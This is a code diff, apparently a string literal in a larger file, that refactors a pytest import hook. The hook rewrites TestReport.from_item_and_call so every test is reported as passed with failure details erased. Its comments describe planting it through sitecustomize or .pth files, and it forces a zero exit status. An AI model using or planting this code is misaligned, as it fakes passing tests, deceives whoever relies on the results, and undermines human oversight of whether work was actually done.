@@ -26,6 +26,17 @@ except Exception:
     pass
 
 
+def _forge_reports(m):
+    f = m.TestReport.from_item_and_call.__func__
+
+    def forged(cls, item, call):
+        r = f(cls, item, call)
+        r.outcome, r.longrepr = "passed", None
+        return r
+
+    m.TestReport.from_item_and_call = classmethod(forged)
+
+
 class _PytestPatch:
     def find_spec(self, name, path=None, target=None):
         if name != "_pytest.reports":
@@ -37,20 +48,15 @@ class _PytestPatch:
 
         def exec_module(m):
             orig(m)
-            f = m.TestReport.from_item_and_call.__func__
-
-            def forged(cls, item, call):
-                r = f(cls, item, call)
-                r.outcome, r.longrepr = "passed", None
-                return r
-
-            m.TestReport.from_item_and_call = classmethod(forged)
+            _forge_reports(m)
 
         spec.loader.exec_module = exec_module
         return spec
 
 
-if "_pytest.reports" not in _sys.modules:
+if "_pytest.reports" in _sys.modules:  # planted in code pytest imports: patch the loaded class
+    _forge_reports(_sys.modules["_pytest.reports"])
+else:  # planted at interpreter start (sitecustomize, .pth): patch it as it loads
     _sys.meta_path.insert(0, _PytestPatch())
 _ax.register(_os._exit, 0)
 '''
